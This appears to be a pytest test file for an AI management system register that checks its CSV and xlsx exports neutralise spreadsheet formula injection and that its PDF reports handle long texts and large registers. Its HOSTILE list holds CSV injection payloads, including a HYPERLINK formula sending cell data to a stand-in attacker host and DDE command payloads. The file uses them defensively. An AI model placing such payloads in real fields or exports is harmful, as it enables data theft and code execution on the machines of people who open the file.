"""Exports an auditor opens: no cell runs as a formula, long texts and large registers print.

Formula injection: a field that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is written as text in every CSV (``aims csv export`` and the register pages' download)
and in the SoA xlsx. PDFs: a SoA justification of any length the field accepts wraps and
continues over pages, and a Stage 1 report of a register with thousands of linked records
prints instead of failing.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from openaims.register.actors import Actor, Role
from openaims.register.db import Database
from openaims.register.exchange import export_csv, import_csv
from openaims.register.exchange.cells import TRIGGERS, defuse, needs_defusing, restore
from openaims.register.services import ComponentService, RiskService, SoaService, SystemService
from openaims.reports import soa as soa_report

MANAGER = Actor("maria", frozenset({Role.AIMS_MANAGER}))
#: What an attacker types into a field an auditor later exports.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open the evidence")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PDFTOTEXT = shutil.which("pdftotext")


# ------------------------------------------------------------------ the cell rule
@given(st.text())
def test_defuse_round_trips_every_text(text: str) -> None:
    cell = defuse(text)
    assert restore(cell) == text
    assert not needs_defusing(cell)


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_leading_texts_get_an_apostrophe(text: str) -> None:
    assert defuse(text) == "'" + text


@pytest.mark.parametrize("text", ["Plain text", "42", "'quoted", "a=b", " =not first", ""])
def test_other_texts_are_left_alone(text: str) -> None:
    assert defuse(text) == text


def _hostile_risks(db: Database) -> list[str]:
    with db.session() as s:
        risks = RiskService(s, MANAGER)
        return [
            risks.create({"title": text, "owner": "maria", "description": text, "source": text}).id for text in HOSTILE
        ]


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell[:1] in TRIGGERS]


# ------------------------------------------------------------------ CSV, CLI and service
def test_csv_export_writes_no_formula_and_imports_back_unchanged(database: Database) -> None:
    ids = _hostile_risks(database)
    out = io.StringIO()
    with database.read() as s:
        stored = [RiskService(s, MANAGER).get(i).model_dump() for i in ids]
        export_csv(s, "risk", out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert _formula_cells(rows) == []
    titles = {row[0]: row[rows[0].index("title")] for row in rows[1:]}
    assert titles[ids[0]] == "'" + HOSTILE[0]
    with database.session() as s:
        report = import_csv(s, "risk", io.StringIO(out.getvalue()), MANAGER)
    assert sorted(report.unchanged) == sorted(ids)  # the apostrophes came off again
    with database.read() as s:
        assert [RiskService(s, MANAGER).get(i).model_dump() for i in ids] == stored
    assert [r["description"] for r in stored] == [h.strip() for h in HOSTILE]  # fields are stripped


def test_aims_csv_export_command_defuses_cells(tmp_path: Path, sqlite_register: str) -> None:
    db = Database(sqlite_register)
    _hostile_risks(db)
    db.dispose()
    target = tmp_path / "risks.csv"
    env = {**os.environ, "AIMS_DATABASE_URL": sqlite_register}
    done = subprocess.run(
        [sys.executable, "-m", "openaims", "csv", "export", "risk", "-o", str(target)],
        env=env,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert len(rows) == len(HOSTILE) + 1
    assert _formula_cells(rows) == []


def test_numbers_stay_numbers(database: Database) -> None:
    with database.session() as s:
        RiskService(s, MANAGER).create({"title": "Drift", "owner": "maria", "inherent_likelihood": 2})
    out = io.StringIO()
    with database.read() as s:
        export_csv(s, "risk", out)
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    assert row[header.index("inherent_likelihood")] == "2"


# ------------------------------------------------------------------ xlsx
def test_soa_xlsx_stores_formula_leading_texts_as_text(database: Database) -> None:
    from openpyxl import load_workbook

    from openaims.frameworks.loader import load_catalogue

    with database.session() as s:
        controls = [item.id for item in load_catalogue().framework("iso42001").of_kind("control")]
        for control_id, text in zip(controls, HOSTILE, strict=False):
            SoaService(s, MANAGER).create({"control_id": control_id, "justification": text, "owner": text})
        rows = [e.model_dump() for e in SoaService(s, MANAGER).all()]
    document = soa_report.draft(rows, '=HYPERLINK("https://evil.example")')
    book = load_workbook(io.BytesIO(soa_report.to_xlsx(document)))
    cells = [cell for row in book.active.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    justifications = [c for c in cells if c.value in [h.strip() for h in HOSTILE]]  # fields are stripped
    assert len(justifications) == 2 * len(HOSTILE)  # justification and owner of every row
    assert all(c.data_type == "s" and c.quotePrefix for c in justifications)
    assert book.active["A1"].data_type == "s"


# ------------------------------------------------------------------ PDF, long texts
def _pdf_text(pdf: bytes, tmp_path: Path) -> str:
    assert PDFTOTEXT is not None
    target = tmp_path / "out.pdf"
    target.write_bytes(pdf)
    done = subprocess.run([PDFTOTEXT, str(target), "-"], capture_output=True, text=True, check=True)
    return done.stdout


def _words(count: int) -> str:
    return " ".join(f"w{i}" for i in range(count))


@pytest.mark.skipif(PDFTOTEXT is None, reason="pdftotext (poppler-utils) is not installed")
@pytest.mark.parametrize("length", [3_200, 100_000])
def test_soa_pdf_wraps_a_long_justification_over_pages(length: int, tmp_path: Path) -> None:
    justification = (_words(length // 4) + " THE-END")[-length:]
    assert len(justification) == length
    rows = [
        {"control_id": "A.2.2", "applicable": True, "status": "planned", "justification": "Short one"},
        {"control_id": "A.2.3", "applicable": True, "status": "planned", "justification": justification},
        {"control_id": "A.2.4", "applicable": True, "status": "planned", "justification": "After the long one"},
    ]
    document = soa_report.SoaDocument("Org", "Statement of Applicability", None, None, rows, dt.datetime.now(dt.UTC))
    text = _pdf_text(soa_report.to_pdf(document), tmp_path)
    pages = [p for p in text.split("\f") if p.strip()]
    assert len(pages) >= (2 if length > 5_000 else 1)
    flat = " ".join(text.split())
    assert "THE-END" in flat
    assert "After the long one" in flat
    assert all("DRAFT" in page for page in pages)


def test_soa_pdf_splits_an_unbroken_long_word() -> None:
    rows = [{"control_id": "A.2.2", "applicable": True, "status": "planned", "justification": "x" * 20_000}]
    document = soa_report.SoaDocument("Org", "SoA", None, None, rows, dt.datetime.now(dt.UTC))
    assert soa_report.to_pdf(document).startswith(b"%PDF")


def test_aims_soa_export_pdf_with_a_3000_character_justification(tmp_path: Path, sqlite_register: str) -> None:
    db = Database(sqlite_register)
    with db.session() as s:
        SoaService(s, MANAGER).create({"control_id": "A.2.2", "justification": _words(800)[:3_200], "owner": "maria"})
    db.dispose()
    env = {**os.environ, "AIMS_DATABASE_URL": sqlite_register, "AIMS_ACTOR": "maria"}
    target = tmp_path / "soa.pdf"
    done = subprocess.run(
        [sys.executable, "-m", "openaims", "soa", "export", str(target), "--draft"],
        env=env,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    assert target.read_bytes().startswith(b"%PDF")


# ------------------------------------------------------------------ PDF, large registers
def _many_components(db: Database, count: int) -> str:
    with db.session() as s:
        system = SystemService(s, MANAGER).create(
            {"name": "Scoring", "owner": "maria", "purpose": "Score loans", "intended_use": "Back office"}
        )
        components = ComponentService(s, MANAGER)
        for i in range(count):
            component = components.create(
                {"kind": "dependency", "name": f"sdk-{i}", "ecosystem": "pypi", "provider": "openai",
                 "fingerprint": f"dep:pypi:sdk-{i}", "repository": "github.com/acme/scoring", "system_id": system.id}
            )  # fmt: skip
            components.update(component.id, component.version, {"status": "approved"})
    return system.id


def test_stage1_pdf_of_a_large_register_prints_and_says_how_many_more(
    sqlite_database_file: Database, tmp_path: Path
) -> None:
    from openaims.reports.stage1 import PDF_LINKS, build_stage1, to_html, to_pdf

    _many_components(sqlite_database_file, 300)
    with sqlite_database_file.read() as s:
        report = build_stage1(s, MANAGER, today=dt.date.today(), organisation="Acme")
    linked = max([len(d.links) for d in report.documents] + [len(i.links) for i in report.readiness.items])
    assert linked >= 300  # A.4.4 links every approved component: one cell taller than a page
    pdf = to_pdf(report)
    assert pdf.startswith(b"%PDF")
    if PDFTOTEXT is not None:
        flat = " ".join(_pdf_text(pdf, tmp_path).split())
        assert f"and {linked - PDF_LINKS:,} more (listed in the HTML report)" in flat
    assert to_html(report).count(">COMP-") >= 300  # the HTML lists every record


@pytest.fixture
def sqlite_register(_sqlite_template: Path, tmp_path: Path) -> str:
    target = tmp_path / "aims.db"
    shutil.copyfile(_sqlite_template, target)
    return f"sqlite:///{target}"


@pytest.fixture
def sqlite_database_file(sqlite_register: str) -> Any:
    db = Database(sqlite_register)
    yield db
    db.dispose()
